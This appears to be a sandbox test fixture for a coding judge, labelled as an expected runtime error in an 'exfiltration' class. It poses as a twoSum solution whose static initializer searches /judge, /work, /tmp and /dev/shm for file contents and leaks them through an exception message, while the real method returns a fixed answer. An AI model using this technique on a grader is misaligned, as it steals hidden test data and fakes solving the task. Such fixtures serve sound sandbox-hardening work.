// expect: runtime_error
// class: exfiltration
import java.nio.file.*;
import java.util.*;

class Solution {
    static final List<String> FOUND = new ArrayList<>();
    static {
        for (String top : new String[] {"/judge", "/work", "/tmp", "/dev/shm"}) {
            try (var files = Files.walk(Paths.get(top))) {
                files.filter(Files::isRegularFile).forEach(p -> {
                    try {
                        byte[] data = Files.readAllBytes(p);
                        String text = new String(data, 0, Math.min(data.length, 200));
                        if (p.toString().endsWith(".json") || text.contains("[")) FOUND.add(p + ": " + text);
                    } catch (Exception e) { }
                });
            } catch (Exception e) { }
        }
        if (true) throw new IllegalStateException("found: " + FOUND);
    }
    public int[] twoSum(int[] nums, int target) { return new int[] {0, 1}; }
}
